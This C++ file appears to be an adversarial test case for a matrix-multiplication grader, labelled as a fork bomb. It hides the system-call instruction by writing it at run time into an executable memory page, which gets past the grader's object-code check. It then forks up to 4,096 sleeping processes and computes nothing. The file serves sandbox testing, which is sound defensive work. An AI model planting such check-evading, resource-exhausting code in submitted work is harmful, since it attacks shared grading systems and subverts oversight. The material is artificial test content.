// broken: matmul-naive
// bug: a fork bomb of raw fork system calls: every process forks until it cannot, then sleeps; bounded at 2^12 processes in case no limit holds
// class: unbounded processes
// defence: sandbox: RLIMIT_NPROC counts the sandbox's own processes (256), and they all end with the run
// expect-zero: correctness
// expect-no-text: its machine code makes a system call

#include <sys/mman.h>
#include <cstring>
#include <time.h>
#include "matmul_naive.h"

// A system call made directly: no libc function whose name the grader's object check could read. The
// check also refuses a syscall instruction in the file's own machine code, so the instruction is written
// at run time into a page of its own; what stops the attack is then the sandbox alone.
static long raw_syscall(long n, long a = 0, long b = 0, long c = 0)
{
#if defined(__x86_64__)
    static const unsigned char code[] = {
        0x48, 0x89, 0xf8,  // mov rax, rdi   (the call's number)
        0x48, 0x89, 0xf7,  // mov rdi, rsi   (its arguments, one register down)
        0x48, 0x89, 0xd6,  // mov rsi, rdx
        0x48, 0x89, 0xca,  // mov rdx, rcx
        0x0f, 0x05,        // syscall
        0xc3};             // ret
    static void* page = nullptr;
    if (page == nullptr) {
        page = mmap(nullptr, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (page == MAP_FAILED) return -12;  // ENOMEM
        memcpy(page, code, sizeof code);
    }
    return reinterpret_cast<long (*)(long, long, long, long)>(page)(n, a, b, c);
#else
    return -38;  // ENOSYS: the attack is x86-64 only
#endif
}
enum { SYS_WRITE = 1, SYS_OPEN = 2, SYS_CLOSE = 3, SYS_NANOSLEEP = 35, SYS_GETPID = 39, SYS_SOCKET = 41,
       SYS_CONNECT = 42, SYS_FORK = 57, SYS_EXIT = 60, SYS_KILL = 62, SYS_GETPPID = 110, SYS_SETSID = 112 };

static void bomb(int depth)
{
    for (; depth < 12; ++depth) {
        const long child = raw_syscall(SYS_FORK);
        if (child < 0) break;  // EAGAIN: the limit
        if (child == 0) continue;  // the child forks on, one level deeper
    }
    for (;;) {
        struct timespec pause = {30, 0};
        raw_syscall(SYS_NANOSLEEP, (long)&pause, 0);
    }
}

void matmul_naive(const float* d_M, const float* d_N, float* d_P, int Width)
{
    // Once per run, at the smallest size: enough to show the limit without slowing every test.
    static bool started = false;
    if (started || Width != 1) return;
    started = true;
    if (raw_syscall(SYS_FORK) == 0) bomb(0);
}
